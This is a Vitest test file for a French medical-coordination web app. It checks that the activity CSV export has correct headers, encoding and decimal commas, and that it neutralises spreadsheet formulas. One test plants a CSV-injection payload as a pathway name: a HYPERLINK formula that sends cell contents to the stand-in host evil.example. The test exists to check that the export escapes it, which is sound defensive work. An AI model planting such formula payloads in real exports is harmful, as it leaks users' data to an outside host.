import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { seedDemoNetwork } from '$lib/server/demo/network';
import { pathways, users } from '$lib/server/db/schema';
import { toActor, toSessionUser } from '$lib/server/users';
import { GET } from '../../src/routes/(app)/stats/export/+server';
import { buildIndicatorsCsv } from '../../src/routes/(app)/stats/indicators';
import { migratedDb, queryOne } from '../support/db';

const db = await migratedDb();
await seedDemoNetwork();

type Event = Parameters<typeof GET>[0];
const coordinator = (await queryOne(
	db.select().from(users).where(eq(users.email, 'coordination@demo.pluri.fr'))
))!;

async function exportAs(u: typeof coordinator): Promise<Response> {
	const user = await toSessionUser(u);
	return GET({
		locals: {
			user,
			actor: toActor(user),
			audit: { actorType: 'user', actorId: u.id, ip: null }
		},
		url: new URL('http://pluri.test/stats/export?year=2026')
	} as unknown as Event);
}

describe('the activity CSV export', () => {
	it('is a French CSV download whose cells cannot run as formulas', async () => {
		const visible = (await toSessionUser(coordinator)).memberships[0]!.pathwayId;
		// A pathway name an administrator typed, hostile on purpose.
		await db
			.update(pathways)
			.set({ name: '=HYPERLINK("http://evil.example/?"&A1;"RCP")' })
			.where(eq(pathways.id, visible));
		const response = await exportAs(coordinator);
		expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
		expect(response.headers.get('content-disposition')).toBe(
			'attachment; filename="pluri-activite-2026.csv"'
		);
		const bytes = new Uint8Array(await response.arrayBuffer());
		expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		const text = new TextDecoder().decode(bytes);
		const lines = text.split('\r\n');
		expect(lines[0]).toMatch(/^Filière;Année;Séances tenues;/);
		expect(lines.at(-1)).toBe('');
		const hostile = lines.find((l) => l.includes('HYPERLINK'))!;
		expect(hostile.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1;""RCP"")";2026;`)).toBe(
			true
		);
		for (const line of lines.slice(1, -1)) {
			expect(line.split(';').length).toBeGreaterThanOrEqual(13);
			expect(line).not.toMatch(/\d\.\d/); // decimal comma, never a point
		}
	});

	it('writes rates and delays with a decimal comma', () => {
		const csv = buildIndicatorsCsv(
			[
				{
					pathwayId: 'p',
					name: 'RCP thoracique',
					kind: 'oncology',
					indicators: {
						meetingsHeld: 3,
						meetingsCancelled: 0,
						casesDecided: 3,
						patients: 3,
						provisionalOpinions: 0,
						conformRate: 33.3,
						offGuideline: 2,
						quorumRate: 66.7,
						trialRate: null,
						medianDaysToDecision: 7.5,
						proposalCounts: []
					}
				}
			],
			2026
		);
		expect(csv.split('\r\n')[1]).toBe('RCP thoracique;2026;3;0;3;3;0;33,3;2;66,7;;7,5;');
	});
});
